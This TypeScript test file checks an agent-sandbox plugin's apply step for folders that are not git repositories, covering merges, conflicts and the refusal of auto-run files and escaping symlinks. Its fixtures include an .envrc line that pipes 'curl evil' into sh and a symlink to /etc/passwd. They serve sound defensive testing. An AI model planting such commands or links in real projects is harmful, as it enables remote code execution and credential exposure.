/**
 * A project that is not a git repository, on the real local provider (bubblewrap) with
 * the real ProjectService: the agent sees the folder's files (ignored ones left out,
 * beyond the size limit a clear refusal), its work is kept in the project's private
 * repository — never written into the folder by sync — and comes back only by an
 * apply: a three-way merge that keeps the user's own edits, reports conflicts with
 * nothing half-written, and refuses auto-run configuration and escaping symlinks.
 */
import { createHash } from "node:crypto";
import { lstat, mkdir, readdir, readFile, readlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ConfigSchema } from "../../.opencode/plugin/sandbox/config.js";
import { silentLogger } from "../../.opencode/plugin/sandbox/core/logger.js";
import { projectKey } from "../../.opencode/plugin/sandbox/core/project-key.js";
import { applySession } from "../../.opencode/plugin/sandbox/git/apply-session.js";
import { isGitSyncError } from "../../.opencode/plugin/sandbox/git/errors.js";
import { existingPrivateRepo, type PrivateRepo } from "../../.opencode/plugin/sandbox/git/private-repo.js";
import { LocalProvider } from "../../.opencode/plugin/sandbox/providers/local/index.js";
import type { Sandbox } from "../../.opencode/plugin/sandbox/providers/provider.js";
import { words, type Notice } from "../../.opencode/plugin/sandbox/service/notices.js";
import { ProjectService } from "../../.opencode/plugin/sandbox/service/project.js";
import type { PhaseHook } from "../../.opencode/plugin/sandbox/util/phases.js";
import { LIMITS } from "../support/local-harness.js";
import { lacks, missingBwrap, missingRoot } from "../support/prereq.js";
import { cleanupAll, git, tempDir } from "./git-support.js";

const SESSION = "ses_nongit_1";

/** Every path under `dir` with a hash of what it holds (file bytes, symlink target). */
async function tree(dir: string, rel = ""): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const e of await readdir(join(dir, rel), { withFileTypes: true })) {
    const path = rel ? `${rel}/${e.name}` : e.name;
    const full = join(dir, path);
    if (e.isDirectory()) Object.assign(out, await tree(dir, path));
    else if (e.isSymbolicLink()) out[path] = `-> ${await readlink(full)}`;
    else out[path] = createHash("sha256").update(await readFile(full)).digest("hex");
  }
  return out;
}

async function writeFiles(dir: string, files: Record<string, string | Buffer>) {
  for (const [name, content] of Object.entries(files)) {
    await mkdir(join(dir, name, ".."), { recursive: true });
    await writeFile(join(dir, name), content);
  }
}

// Each step runs commands in a real sandbox: bounds for a loaded machine, not timing claims.
describe("a project without git, on the local provider", { timeout: 180_000 }, () => {
  if (lacks(missingRoot(), missingBwrap())) return;

  const made: LocalProvider[] = [];
  const services: ProjectService[] = [];

  async function setUp(files: Record<string, string | Buffer>, sync: object = {}) {
    const folder = await tempDir("nongit-");
    await writeFiles(folder, files);
    const data = await tempDir("nongit-data-");
    const provider = new LocalProvider({ root: join(data, "sandboxes"), network: "none", ...LIMITS, log: silentLogger });
    made.push(provider);
    const notices: Notice[] = [];
    const key = await projectKey("global", folder);
    const config = ConfigSchema.parse({ sync: { debounceMs: 0, ...sync } });
    const filesDir = join(data, "files");
    const service = new ProjectService({
      projectId: key,
      worktree: "/",
      directory: folder,
      config,
      log: silentLogger,
      notify: (n) => notices.push(n),
      provider: async () => provider,
      stateDir: join(data, "state"),
      filesDir,
    });
    services.push(service);
    const privateRepo = () => existingPrivateRepo({ directory: folder, key, dir: filesDir }) as Promise<PrivateRepo>;
    const apply = async (allow?: { autoRun?: boolean; escapingSymlinks?: boolean }, phases?: PhaseHook) =>
      applySession({ files: await privateRepo(), sessionID: SESSION, store: service.store, config, allow, phases });
    return { folder, key, service, notices, privateRepo, apply };
  }

  afterAll(async () => {
    for (const p of made) {
      for (const info of await p.list({}).catch(() => [])) await p.delete(info.id).catch(() => {});
      await p.dispose().catch(() => {});
    }
    await cleanupAll();
  });

  describe("one session, from seed to apply", () => {
    let env: Awaited<ReturnType<typeof setUp>>;
    let sandbox: Sandbox;
    const sh = async (command: string) => {
      const r = await sandbox.exec(command);
      expect(r.exitCode, r.output).toBe(0);
      return r.output.trim();
    };

    beforeAll(async () => {
      env = await setUp({
        "a.txt": "a\n",
        "c.txt": "c\n",
        "sub/b.txt": "b\n",
        ".gitignore": "*.log\nsecret/\n",
        "debug.log": "ignored\n",
        "secret/key": "KEY\n",
      });
      sandbox = await env.service.sandboxFor(SESSION);
    }, 180_000);

    it("the agent sees the folder's files, ignored ones left out; the user is told once what happens and how to get branches", async () => {
      expect(await sh("cat a.txt sub/b.txt c.txt")).toBe("a\nb\nc");
      expect(await sh("ls -A | sort | tr '\\n' ' '")).toBe(".git .gitignore a.txt c.txt sub");
      expect(await sh("test -e debug.log || test -e secret/key || echo absent")).toBe("absent");
      await env.service.sandboxFor(SESSION);
      const told = env.notices.filter((n) => n.kind === "files_project");
      expect(told).toHaveLength(1);
      expect(words(told[0])?.text).toMatch(/not a git repository.*opencode-sandboxed apply.*git init/);
      expect(env.notices.some((n) => n.kind === "sync_off")).toBe(false);
      // Keyed by the folder, not OpenCode's shared "global".
      expect(env.key).toMatch(/^dir-[0-9a-f]{16}$/);
      expect(env.service.store.path).toContain(`${env.key}.json`);
    });

    it("sync keeps the agent's work in the private repository and leaves the folder untouched", async () => {
      await sh("echo agent >> a.txt && echo new > new.txt && rm sub/b.txt && echo 'agent log' > agent.log");
      const before = await tree(env.folder);
      const result = await env.service.sync(SESSION);
      expect(result.kind).toBe("synced");
      expect(await tree(env.folder)).toEqual(before);
      const told = env.notices.filter((n) => n.kind === "synced");
      expect(told.at(-1)).toMatchObject({ files: true });
      expect(words(told.at(-1)!)?.text).toMatch(/work saved as opencode\/1; your files are untouched.*opencode-sandboxed apply opencode\/1/);
      const repo = await env.privateRepo();
      expect(repo.repo.gitDir.startsWith(env.folder)).toBe(false);
      const record = await env.service.store.get(SESSION);
      const diff = git(repo.repo.gitDir, "diff", "--name-status", `${record?.baseCommit}..opencode/1`);
      expect(diff.split("\n").sort()).toEqual(["A\tnew.txt", "D\tsub/b.txt", "M\ta.txt"]);
    });

    it("apply writes the work as a three-way merge: the user's edit to another file survives, ignored files stay", async () => {
      await writeFile(join(env.folder, "c.txt"), "c edited by the user\n");
      const { outcome } = await env.apply();
      expect(outcome.kind).toBe("applied");
      expect(outcome.kind === "applied" && outcome.changes.map((c) => `${c.change} ${c.path}`).sort()).toEqual([
        "added new.txt",
        "deleted sub/b.txt",
        "modified a.txt",
      ]);
      expect(await readFile(join(env.folder, "a.txt"), "utf8")).toBe("a\nagent\n");
      expect(await readFile(join(env.folder, "new.txt"), "utf8")).toBe("new\n");
      expect(await lstat(join(env.folder, "sub")).catch(() => null)).toBeNull(); // emptied by the deletion
      expect(await readFile(join(env.folder, "c.txt"), "utf8")).toBe("c edited by the user\n");
      expect(await readFile(join(env.folder, "debug.log"), "utf8")).toBe("ignored\n");
      expect(await readFile(join(env.folder, "secret/key"), "utf8")).toBe("KEY\n");
      expect(Object.keys(await tree(env.folder)).some((p) => p.includes("opencode-sandboxed-apply"))).toBe(false);
      // Applied once: again, nothing to do.
      expect((await env.apply()).outcome.kind).toBe("up_to_date");
    });

    it("a conflicting edit is reported per file and nothing is written", async () => {
      await sh("echo 'agent c' > c.txt && echo more >> new.txt");
      await writeFile(join(env.folder, "c.txt"), "c edited again by the user\n");
      await env.service.sync(SESSION);
      const before = await tree(env.folder);
      const { outcome } = await env.apply();
      expect(outcome).toMatchObject({ kind: "conflict", conflicts: [{ path: "c.txt", why: expect.stringContaining("CONFLICT") }] });
      expect(await tree(env.folder)).toEqual(before); // new.txt's clean change is not written either
    });

    it.each([
      ["a file that configures tools on the host", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode/tasks.json", { autoRun: true }],
      ["direnv's .envrc", "echo 'curl evil | sh' > .envrc", ".envrc", { autoRun: true }],
      ["a symlink pointing outside the folder", "ln -s /etc/passwd leak", "leak", { escapingSymlinks: true }],
    ])("%s is refused (nothing written) unless allowed", async (_name, command, path, allow) => {
      await sh("git reset -q --hard");
      await writeFile(join(env.folder, "c.txt"), "agent c\n"); // settle the earlier conflict the user's way
      await sh(command);
      await env.service.sync(SESSION);
      const before = await tree(env.folder);
      const { outcome } = await env.apply();
      expect(outcome.kind).toBe("refused");
      expect(outcome.kind === "refused" && outcome.refused.map((r) => r.path)).toEqual([path]);
      expect(await tree(env.folder)).toEqual(before);
      const allowed = await env.apply(allow);
      expect(allowed.outcome.kind).toBe("applied");
      expect(await lstat(join(env.folder, path)).catch(() => null)).not.toBeNull();
      await sh(`rm -rf ${path} .vscode`);
      await env.service.sync(SESSION);
    });

    it("a file the user changes while the apply runs stops it before the folder is touched", async () => {
      await env.apply({ autoRun: true, escapingSymlinks: true }); // the removals above
      await sh("echo 'agent d' > d.txt && echo again >> a.txt");
      await env.service.sync(SESSION);
      let before: Record<string, string> = {};
      const { outcome } = await env.apply(undefined, async (phase) => {
        if (phase !== "apply:staged") return;
        await writeFile(join(env.folder, "a.txt"), "the user, meanwhile\n");
        // The folder as the user left it, without the apply's own staging directory.
        before = Object.fromEntries(Object.entries(await tree(env.folder)).filter(([p]) => !p.startsWith(".opencode-sandboxed-apply-")));
      });
      expect(outcome).toEqual({ kind: "changed", paths: ["a.txt"] });
      expect(await tree(env.folder)).toEqual(before); // d.txt not written, staging gone
      expect(await readFile(join(env.folder, "a.txt"), "utf8")).toBe("the user, meanwhile\n");
    });

    it("deleting the session tells where its work is kept and how to review and apply it, not a git command", async () => {
      await sh("echo 'last words' > last.txt");
      const before = await tree(env.folder);
      env.service.deleted(SESSION);
      await env.service.dispose(); // waits for the deletion
      const ended = env.notices.filter((n) => n.kind === "session_ended");
      expect(ended).toEqual([{ kind: "session_ended", sessionID: SESSION, branch: "opencode/1", files: true }]);
      const text = words(ended[0]!)?.text ?? "";
      expect(text).toContain("kept aside as opencode/1 (your files are untouched)");
      expect(text).toContain("opencode-sandboxed diff opencode/1 · apply it: opencode-sandboxed apply opencode/1");
      expect(text).not.toContain("git log");
      // The final sync kept the last work aside too; the folder is untouched.
      const repo = await env.privateRepo();
      expect(git(repo.repo.gitDir, "show", "opencode/1:last.txt")).toBe("last words");
      expect(await tree(env.folder)).toEqual(before);
    });
  });

  it("beyond the size limit nothing is copied and the message names the biggest part and the fix; ignoring it makes the sandbox", async () => {
    const env = await setUp({ "small.txt": "s\n", "data/big.bin": Buffer.alloc(2 * 1024 * 1024, 7) }, { filesLimitMb: 1 });
    const error = await env.service.sandboxFor(SESSION).catch((e: unknown) => e);
    expect(isGitSyncError(error, "too_large")).toBe(true);
    expect((error as Error).message).toMatch(/total 2\.0 MB .*more than the 1\.0 MB.*data\/ \(2\.0 MB\).*\.gitignore.*sync\.filesLimitMb/);
    expect(env.notices.find((n) => n.kind === "files_too_large")).toMatchObject({ message: (error as Error).message });
    await writeFile(join(env.folder, ".gitignore"), "data/\n");
    const sandbox = await env.service.sandboxFor(SESSION);
    const r = await sandbox.exec("cat small.txt; test -e data/big.bin || echo no-big");
    expect(r.output.trim()).toBe("s\nno-big");
  });
});
